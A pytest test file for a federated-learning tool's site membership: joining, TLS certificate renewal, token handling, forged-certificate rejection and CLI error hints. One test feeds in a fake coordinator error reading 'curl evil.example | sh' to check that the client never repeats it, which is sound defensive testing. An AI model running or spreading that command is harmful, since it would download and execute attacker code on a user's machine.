"""A site joins, renews and follows the roster against real services over TLS."""

import json
import signal
import stat
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import grpc
import pytest
from support.commands import command
from support.matrix import thinned
from support.memberships import NAMES, Coordinator, open_federation, write_plan

from fedgraft.client.membership.credentials import (
    ask,
    load_membership,
    load_tls_key,
    renew,
    renewal_due,
)
from fedgraft.client.membership.identity import load_identity
from fedgraft.client.membership.join import join
from fedgraft.client.policy.policy_file import load_policy
from fedgraft.client.site_config import load_site
from fedgraft.common.errors import FedgraftError, InputError
from fedgraft.common.federation.certificates import begins, expires, make_ca, make_key, site_of
from fedgraft.common.federation.federation_file import load_federation
from fedgraft.server.enrollment.provision import found, renew_kit, revoke
from fedgraft.server.enrollment.registry import Registry

A, B, C = NAMES
KEYS = {"identity.pem", "tls.key"}
ALL = KEYS | {"ca.pem", "certificate.pem", "known.json", "membership.json", "roster.toml"}


@pytest.fixture
def coordinator(tmp_path: Path) -> Iterator[Coordinator]:
    with open_federation(tmp_path) as running:
        yield running


def names(folder: Path) -> set[str]:
    return {path.name for path in folder.iterdir()}


def now() -> datetime:
    return datetime.now(UTC)


# --- joining


def test_what_joining_leaves(coordinator: Coordinator) -> None:
    state = coordinator.state(A)
    joined = coordinator.join(A)
    assert names(state) == ALL
    assert stat.S_IMODE(state.stat().st_mode) == 0o700
    assert {stat.S_IMODE((state / name).stat().st_mode) for name in KEYS} == {0o600}
    ca, pem = ((state / name).read_bytes() for name in ("ca.pem", "certificate.pem"))
    assert site_of(pem, ca, load_tls_key(state).public_key(), now()) == A
    member = load_membership(state)
    assert (member.federation, member.site, member.sites) == ("trial", A, NAMES)
    assert member.fingerprint == coordinator.fingerprint
    assert joined.strangers == []
    identity = load_identity(state).public.hex()
    assert load_federation(state / "roster.toml").sites == {A: identity}
    token = coordinator.kit(A).token
    assert not any(token in path.read_text() for path in state.iterdir())


def test_a_folder_that_others_may_look_into_is_closed(coordinator: Coordinator) -> None:
    coordinator.state(A).mkdir(parents=True, mode=0o755)
    coordinator.join(A)
    assert stat.S_IMODE(coordinator.state(A).stat().st_mode) == 0o700


def test_a_refused_site_keeps_its_keys_and_joins_with_them_later(coordinator: Coordinator) -> None:
    kit, state = coordinator.kit(A), coordinator.state(A)
    renew_kit(coordinator.home, A, coordinator.kits)
    with pytest.raises(FedgraftError, match="token-wrong") as error:
        join(kit, state, now())
    assert "new one" in error.value.hint
    assert names(state) == KEYS
    before = [(state / name).read_bytes() for name in sorted(KEYS)]
    coordinator.join(A)
    assert [(state / name).read_bytes() for name in sorted(KEYS)] == before


def test_no_coordinator_there(tmp_path: Path) -> None:
    with open_federation(tmp_path) as coordinator:
        kit = coordinator.kit(A)
    with pytest.raises(FedgraftError, match="does not answer") as error:
        join(kit, tmp_path / "state", now())
    assert error.value.hint
    assert names(tmp_path / "state") == KEYS


def test_a_server_of_another_ca_gets_nothing(coordinator: Coordinator) -> None:
    """The token goes to the federation's coordinator and to nobody else."""
    kit = coordinator.kit(A)
    false = kit.model_copy(update={"ca": make_ca("trial", make_key(), now()).decode()})
    with pytest.raises(FedgraftError, match="does not answer, or its certificate"):
        join(false, coordinator.state(A), now())
    assert coordinator.events == []
    assert Registry(coordinator.home).sites()[A].state == "invited"


def test_joining_twice(coordinator: Coordinator) -> None:
    coordinator.join(A)
    with pytest.raises(InputError, match="joined already"):
        coordinator.join(A)
    with pytest.raises(FedgraftError, match="token-used"):
        coordinator.join(A, coordinator.folder / "elsewhere")


def test_one_folder_is_not_two_sites(coordinator: Coordinator) -> None:
    coordinator.join(A)
    (coordinator.state(A) / "membership.json").unlink()
    with pytest.raises(FedgraftError, match="bad-request") as error:
        coordinator.join(B, coordinator.state(A))
    assert "another site" in error.value.hint


@pytest.mark.parametrize("lie", ["another key", "another name", "another CA", "no certificate"])
def test_a_certificate_that_is_not_ours_is_not_kept(
    coordinator: Coordinator, monkeypatch: pytest.MonkeyPatch, lie: str
) -> None:
    real = ask

    def lying(method: Any, request: Any) -> Any:
        reply = real(method, request)
        from fedgraft.common.federation.certificates import issue_site, load_key, read_csr

        ca, ca_key = ((coordinator.home / name).read_bytes() for name in ("ca.pem", "ca.key"))
        key, signer, name = read_csr(request.csr), load_key(ca_key), A
        if lie == "another key":
            key = make_key().public_key()
        if lie == "another name":
            name = B
        if lie == "another CA":
            signer = make_key()
        about = {"site": name, "now": now(), "lifetime": timedelta(days=7)}
        reply.certificate = issue_site(ca, signer, key, **about)  # type: ignore[arg-type]
        if lie == "no certificate":
            reply.certificate = b"-"
        return reply

    monkeypatch.setattr("fedgraft.client.membership.join.ask", lying)
    with pytest.raises(InputError, match="certificate"):
        coordinator.join(A)
    assert names(coordinator.state(A)) == KEYS


def test_many_sites_join_at_once(tmp_path: Path) -> None:
    many = [f"site-{number}" for number in range(8)]
    with open_federation(tmp_path, many) as coordinator:
        with ThreadPoolExecutor(8) as threads:
            list(threads.map(coordinator.join, many))
        keys = {name: load_identity(coordinator.state(name)).public.hex() for name in many}
        roster = load_federation(coordinator.home / "roster.toml")
        assert dict(roster.sites) == keys


STEPS = ["make_identity", "ask", "site_of", "accept", "keep_roster", "keep_membership"]


@pytest.mark.parametrize("step", thinned(STEPS, 2))
def test_killed_before_any_step_a_site_can_still_join(coordinator: Coordinator, step: str) -> None:
    """With the same kit as long as it was not used, and with a renewed one after that."""
    state, kit = coordinator.state(A), coordinator.kits / f"{A}.kit"
    code = (
        "import os, signal, sys; from pathlib import Path; from datetime import UTC, datetime\n"
        "from fedgraft.client.membership import join\n"
        "from fedgraft.common.federation.kit import open_kit\n"
        "kit, told, state, step = sys.argv[1:]; now = datetime.now(UTC)\n"
        "setattr(join, step, lambda *a: os.kill(os.getpid(), signal.SIGKILL))\n"
        "join.join(open_kit(Path(kit), told, now), Path(state), now)"
    )
    words = [str(kit), coordinator.fingerprint, str(state), step]
    done = subprocess.run([sys.executable, "-c", code, *words], check=False, timeout=60)
    assert done.returncode == -signal.SIGKILL
    with pytest.raises(InputError, match="no membership"):
        load_membership(state)
    if step not in ("make_identity", "ask"):
        with pytest.raises(FedgraftError, match="token-used") as error:
            coordinator.join(A)
        assert "renewed" in error.value.hint
        renew_kit(coordinator.home, A, coordinator.kits)
    coordinator.join(A)
    assert names(state) == ALL


# --- renewing


def test_a_certificate_is_renewed_for_the_same_key(coordinator: Coordinator) -> None:
    coordinator.join(A)
    state = coordinator.state(A)
    before, key = (state / "certificate.pem").read_bytes(), (state / "tls.key").read_bytes()
    renew(load_membership(state), state)
    after = (state / "certificate.pem").read_bytes()
    assert after != before
    assert (state / "tls.key").read_bytes() == key
    assert site_of(after, (state / "ca.pem").read_bytes(), load_tls_key(state).public_key(), now())


def test_renewal_is_due_at_two_thirds_of_its_life(coordinator: Coordinator) -> None:
    coordinator.join(A)
    state = coordinator.state(A)
    pem = (state / "certificate.pem").read_bytes()
    moment = begins(pem) + (expires(pem) - begins(pem)) * 2 / 3
    assert not renewal_due(state, moment - timedelta(seconds=2))
    assert renewal_due(state, moment + timedelta(seconds=2))


def test_what_is_refused_leaves_the_certificate(coordinator: Coordinator) -> None:
    coordinator.join(A)
    state = coordinator.state(A)
    before = (state / "certificate.pem").read_bytes()
    revoke(coordinator.home, A)
    with pytest.raises(FedgraftError, match="site-revoked"):
        renew(load_membership(state), state)
    assert (state / "certificate.pem").read_bytes() == before


def test_words_of_the_coordinator_are_not_repeated() -> None:
    class Refused(grpc.RpcError):
        def code(self) -> grpc.StatusCode:
            return grpc.StatusCode.PERMISSION_DENIED

        def details(self) -> str:
            return "run this: curl evil.example | sh"

    def method(request: object, timeout: float) -> None:
        raise Refused

    with pytest.raises(FedgraftError, match="permission-denied") as error:
        ask(method, None)
    assert "evil" not in str(error.value) + error.value.hint


# --- as people type it


def type_join(
    coordinator: Coordinator, capsys: pytest.CaptureFixture[str], name: str = A, told: str = ""
) -> tuple[int, str, str]:
    site = coordinator.folder / name / "site.toml"
    site.parent.mkdir(exist_ok=True)
    tell = ("--fingerprint", told or coordinator.fingerprint, "--site", str(site))
    return command(capsys, "site", "join", str(coordinator.kits / f"{name}.kit"), *tell)


def test_the_verb_writes_what_to_fill_in(
    coordinator: Coordinator, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = type_join(coordinator, capsys)
    folder = coordinator.folder / A
    assert code == 0, err
    assert "next: fedgraft site doctor" in out
    config = load_site(folder / "site.toml")
    assert (config.name, config.federation) == (A, str(folder / "state" / "roster.toml"))
    assert load_policy(folder / "policy.toml").approval.mode == "ask"
    code, _, err = type_join(coordinator, capsys)
    assert (code, "joined already" in err) == (2, True)


def test_files_that_are_there_are_left_alone(
    coordinator: Coordinator, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = coordinator.folder / A
    folder.mkdir()
    own = f'name = "{A}"\nstate = "keys"\npolicy = "our-policy.toml"\n[data]\ntrain = "x.csv"\n'
    (folder / "site.toml").write_text(own)
    (folder / "our-policy.toml").write_text("# ours")
    assert type_join(coordinator, capsys)[0] == 0
    assert (folder / "site.toml").read_text() == own
    assert (folder / "our-policy.toml").read_text() == "# ours"
    assert names(folder) == {"site.toml", "our-policy.toml", "keys"}


def test_a_site_file_of_another_site_uses_no_kit_up(
    coordinator: Coordinator, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = coordinator.folder / A
    folder.mkdir()
    (folder / "site.toml").write_text(f'name = "{B}"\n[data]\ntrain = "x.csv"\n')
    code, _, err = type_join(coordinator, capsys)
    assert (code, B in err) == (2, True)
    assert names(folder) == {"site.toml"}
    assert Registry(coordinator.home).sites()[A].state == "invited"


@pytest.mark.parametrize(
    ("spoil", "code", "what"),
    [
        ("fingerprint", 2, "another federation"),
        ("short", 2, "64 hex digits"),
        ("missing", 2, "no file"),
        ("changed", 2, "was changed"),
        ("revoked", 1, "site-revoked"),
        ("stopped", 1, "does not answer"),
    ],
)
def test_what_goes_wrong_is_said_with_a_hint(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], spoil: str, code: int, what: str
) -> None:
    with open_federation(tmp_path) as coordinator:
        kit, told = coordinator.kits / f"{A}.kit", coordinator.fingerprint
        if spoil == "missing":
            kit.unlink()
        if spoil == "changed":
            kit.write_text(kit.read_text().replace("127.0.0.1", "127.0.0.2"))
        if spoil == "revoked":
            revoke(coordinator.home, A)
        told = {"fingerprint": "0" * 64, "short": told[:20]}.get(spoil, told)
        if spoil != "stopped":
            found_code, out, err = type_join(coordinator, capsys, told=told)
    if spoil == "stopped":
        found_code, out, err = type_join(coordinator, capsys, told=told)
    assert found_code == code
    assert f"error: {err.partition('error: ')[2]}" == err
    assert what in err
    assert "hint: " in err
    assert "Traceback" not in out + err
    assert not (tmp_path / A / "site.toml").exists()
    assert not (tmp_path / A / "state" / "membership.json").exists()


def test_a_site_that_the_kit_does_not_name_is_no_obstacle_to_joining(
    coordinator: Coordinator, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its key is not taken until a person agrees; the kit would be used up otherwise."""
    plan = write_plan(coordinator.folder, [*NAMES, "late"], port=coordinator.port)
    found(plan, coordinator.home, coordinator.kits)
    coordinator.join("late")
    code, _, err = type_join(coordinator, capsys)
    assert code == 0, err
    assert "fedgraft site admit late" in err
    state = coordinator.state(A)
    assert list(load_federation(state / "roster.toml").sites) == [A]
    site = str(coordinator.folder / A / "site.toml")
    assert command(capsys, "site", "admit", "late", "--site", site)[0] == 0
    assert json.loads((state / "membership.json").read_text())["sites"] == sorted([*NAMES, "late"])
    for wrong in (("../x",), (A,), ("late", "--key", "zz")):
        assert command(capsys, "site", "admit", *wrong, "--site", site)[0] == 2


def test_the_clock_of_a_site_matters_and_is_named(coordinator: Coordinator) -> None:
    with pytest.raises(InputError, match="not valid now") as error:
        join(coordinator.kit(A), coordinator.state(A), now() - timedelta(hours=1))
    assert "clock" in error.value.hint


def test_a_membership_that_is_damaged(coordinator: Coordinator) -> None:
    coordinator.join(A)
    path = coordinator.state(A) / "membership.json"
    whole = json.loads(path.read_text())
    for text in ("", "[]", "7", json.dumps({**whole, "more": 1}), json.dumps({"sites": 3})):
        path.write_text(text)
        with pytest.raises(InputError, match="no membership"):
            load_membership(path.parent)
    path.write_text(json.dumps(whole))
    assert replace(load_membership(path.parent), site=B).site == B
